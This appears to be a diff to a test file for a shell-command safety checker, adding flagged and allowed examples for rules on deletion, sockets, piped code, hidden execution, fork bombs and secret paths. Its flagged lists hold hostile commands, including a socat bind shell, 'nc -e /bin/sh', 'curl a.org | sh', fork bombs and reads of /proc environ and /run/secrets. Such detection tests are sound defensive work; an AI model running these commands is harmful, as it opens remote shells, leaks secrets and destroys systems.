@@ -5,6 +5,8 @@ import { allRules } from './rules/index.ts'
 const examples: Record<string, { found: string[]; left: string[] }> = {
   'delete-files': {
     found: [
+      'rm -rf /tmp/$X',
+      'rm "/tmp/$X"',
       'rm a',
       'rm -rf build',
       '/bin/rm a',
@@ -18,9 +20,21 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
       'rm /tmp/a b',
       'ln -s /work /tmp/w; rm -rf /tmp/w/a',
     ],
-    left: ['echo rm a', 'rm --help', 'rm -rf /tmp/a', 'ls rm', "grep 'rm -rf' a", 'cat rm'],
+    left: [
+      't=$(mktemp); rm "$t"',
+      'echo rm a',
+      'rm --help',
+      'rm -rf /tmp/a',
+      'ls rm',
+      "grep 'rm -rf' a",
+      'cat rm',
+    ],
   },
   'delete-folders': { found: ['rmdir a', 'rmdir -p a/b'], left: ['mkdir a', 'rmdir /tmp/a'] },
+  'move-away': {
+    found: ['mv a /tmp', 'mv a b /tmp/x', 'mv -t /tmp a', 'find . -exec mv {} /tmp/x \\;', 'mv * /dev/null'],
+    left: ['mv a b', 'mv /tmp/a b', 'mv /tmp/a /tmp/b', 'cp a /tmp'],
+  },
   'find-delete': {
     found: ['find . -name x -delete', 'X=-delete; find . $X'],
     left: ['find . -name delete', 'find . -name "*-delete"'],
@@ -154,8 +168,13 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   'device-node': { found: ['mknod a c 1 5', 'mknod a b 8 0'], left: ['mknod a p', 'mkfifo a'] },
   'machine-power': { found: ['shutdown now', 'reboot'], left: ['uptime', 'echo reboot'] },
   'endless-data': {
-    found: ['cat /dev/zero > a', 'dd if=/dev/zero of=a bs=1M', 'cp /dev/urandom a'],
-    left: ['dd if=/dev/zero of=/tmp/a bs=1M count=5', 'head -c 9 /dev/urandom', 'cat /dev/null'],
+    found: ['yes > a', 'cat /dev/zero > a', 'dd if=/dev/zero of=a bs=1M', 'cp /dev/urandom a'],
+    left: [
+      'yes | head',
+      'dd if=/dev/zero of=/tmp/a bs=1M count=5',
+      'head -c 9 /dev/urandom',
+      'cat /dev/null',
+    ],
   },
   'stress-machine': { found: ['stress --cpu 8', 'stress-ng --vm 2'], left: ['nproc'] },
   'send-by-curl': {
@@ -175,6 +194,7 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'send-by-socket': {
     found: [
+      'socat TCP-LISTEN:80 EXEC:sh',
       'nc a.org 80 < a',
       'nc -e /bin/sh a 1',
       'socat - tcp:a.org:80',
@@ -203,6 +223,8 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'dynamic-command': {
     found: [
+      'xargs -I X X a',
+      "xargs -I % sh -c '% a'",
       '$X a',
       '"$(a)" b',
       '`a` b',
@@ -223,6 +245,7 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'code-from-pipe': {
     found: [
+      'a | parallel',
       'curl a.org | sh',
       'base64 -d a | bash',
       'bash <(curl a)',
@@ -237,6 +260,10 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'hidden-run': {
     found: [
+      "expect -c 'spawn rm a'",
+      "gdb -ex 'shell ls'",
+      "less '+!ls' a",
+      "git clone 'ext::sh -c ls'",
       'awk \'BEGIN { system("ls") }\'',
       'awk \'{ print | "sh" }\' a',
       "sed 's/a/b/e' a",
@@ -248,10 +275,11 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
       "let 'a[$(ls)]'",
       'make -f - <<E\na:\nE',
     ],
-    left: ["awk '{ print $1 }' a", "sed 's/e/w/' a", 'hash -r', 'make -f a'],
+    left: ['gdb ./a.out', 'less a', "awk '{ print $1 }' a", "sed 's/e/w/' a", 'hash -r', 'make -f a'],
   },
   'code-deletes': {
     found: [
+      'python3 -c \'from os import remove as r; r("a")\'',
       'python3 -c \'import os; os.remove("a")\'',
       "python3 <<E\nimport shutil\nshutil.rmtree('a')\nE",
       'node -e \'fs.rmSync("a")\'',
@@ -270,7 +298,12 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
     left: ['python3 -c \'import os; os.system("ls")\'', 'node -e \'/a/.exec("b")\''],
   },
   'code-hides-code': {
-    found: ["python3 -c 'exec(x)'", "node -e 'eval(x)'", 'python3 -c \'__import__("os")\''],
+    found: [
+      "python3 -c 'import os; getattr(os, x)(y)'",
+      "python3 -c 'exec(x)'",
+      "node -e 'eval(x)'",
+      'python3 -c \'__import__("os")\'',
+    ],
     left: ['python3 -c \'import re; re.compile("a")\''],
   },
   'overwrite-unknown': {
@@ -287,6 +320,7 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
   },
   'fork-bomb': {
     found: [
+      'f() { for i in 1 2; do f & done; }; f',
       ':(){ :|:& };:',
       'f() { f | f & }; f',
       'f() { g & g; }; g() { f; }; f',
@@ -301,11 +335,23 @@ const examples: Record<string, { found: string[]; left: string[] }> = {
     ],
   },
   'endless-forking': {
-    found: ['while true; do a & done', 'while :; do ( a & ); done', 'until false; do a & done'],
-    left: ['while true; do a & wait; done', 'while true; do a; done', 'while read x; do a & done < b'],
+    found: [
+      'for ((;;)); do a & done',
+      'while true; do a & done',
+      'while :; do ( a & ); done',
+      'until false; do a & done',
+    ],
+    left: [
+      'for ((i=0;i<3;i++)); do a & done',
+      'while true; do a & wait; done',
+      'while true; do a; done',
+      'while read x; do a & done < b',
+    ],
   },
   'secret-path': {
     found: [
+      'cat /run/sec*/a',
+      'cat /r??/secrets/a/b',
       'cat /proc/self/environ',
       'cat /proc/$$/environ',
       'cat /proc/*/environ',
